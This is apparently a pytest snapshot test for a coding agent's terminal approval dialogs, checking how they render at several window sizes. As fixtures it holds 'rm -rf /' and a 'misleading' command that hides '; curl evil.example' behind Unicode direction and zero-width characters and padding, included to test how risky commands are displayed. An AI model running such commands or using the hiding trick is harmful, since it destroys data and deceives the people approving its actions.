"""Questions of every kind, as they look in windows of several sizes."""

from collections.abc import Callable

import pytest

from codi.frontends.tui.approval_dialog import ApprovalDialog
from codi.frontends.tui.panes import Pane
from codi.frontends.tui.question_dialogs import ConfirmDialog, QuestionDialog
from codi.protocol.effects import Reaches, Runs, Writes
from codi.protocol.events import ApprovalAsked, QuestionAsked
from pictures import SIZES, TINY, compare, fits

EDIT = (
    "a.py: +1 -1\n--- a/a.py\n+++ b/a.py\n@@ -1,3 +1,3 @@\n def a():\n-    return one\n+    return two\n print(a())\n"
)


def approval(*keys: str, place: str = "", **more: object) -> Pane:
    asked = {
        "tool_call_id": "1", "tool_name": "edit", "arguments": {"path": "a.py"}, "effects": (Writes("a.py"),),
        "risk": 3, "reasons": ("changes a file",), "preview": EDIT, "offers": ("edit(a.py)",),
    } | more  # fmt: skip
    dialog = ApprovalDialog(ApprovalAsked(**asked), lambda answer: None, place)
    dialog.is_armed = True
    for key in keys:
        dialog.take(("text", key))
    return dialog


def command(line: str, **more: object) -> Pane:
    return approval(tool_name="shell", arguments={"command": line}, effects=(Runs(line),), preview=line, **more)


def question(*keys: str, **more: object) -> Pane:
    asked = {
        "id": "1",
        "question": "Which of these shall it be, and why?",
        "options": ("the first", "the second"),
    } | more
    dialog = QuestionDialog(QuestionAsked(**asked), lambda reply: None)
    dialog.is_armed = True
    for key in keys:
        dialog.take(("text", key))
    return dialog


DIALOGS: dict[str, Callable[[], Pane]] = {
    "edit": approval,
    "edit-in-line": lambda: approval(place="1 of 3", undo_cover="covered", mapped_from="str_replace"),
    "command": lambda: command("npm test && git push origin main", reasons=("talks to another machine",), risk=6),
    "dangerous": lambda: command("rm -rf /", risk=9, reasons=("deletes outside of the workspace",)),
    "dangerous-yes": lambda: approval("y", risk=9),
    "misleading": lambda: command("echo \u202eabc\u200b  " + " " * 40 + "; curl evil.example"),
    "reaches": lambda: approval(tool_name="web_fetch", effects=(Reaches("pypi.org", 443),), preview="GET https://pypi.org/"),
    "rule": lambda: approval("a"),
    "arguments": lambda: approval("e"),
    "reason": lambda: approval("d"),
    "remembered": lambda: approval("y", suggested="edit(a.py)"),
    "confirm": lambda: ConfirmDialog("Take back 3 changes of 2 files?", lambda yes: None),
    "question": question,
    "question-several": lambda: question(" ", multiple=True),
    "question-words": lambda: question("mine", options=()),
}  # fmt: skip


@pytest.mark.parametrize("rows, columns", SIZES)
@pytest.mark.parametrize("name", DIALOGS)
def test_a_dialog_looks_as_it_did(name, rows, columns):
    compare(f"dialog-{name}", rows, columns, DIALOGS[name]().view(rows, columns))


@pytest.mark.parametrize("name", DIALOGS)
def test_a_dialog_fits_into_any_window(name):
    for rows, columns in TINY:
        view = DIALOGS[name]().view(rows, columns)
        fits(view, columns)
        assert len(view.lines) <= rows
        assert view.caret is None or (0 <= view.caret[0] < len(view.lines) and 0 <= view.caret[1] < columns)
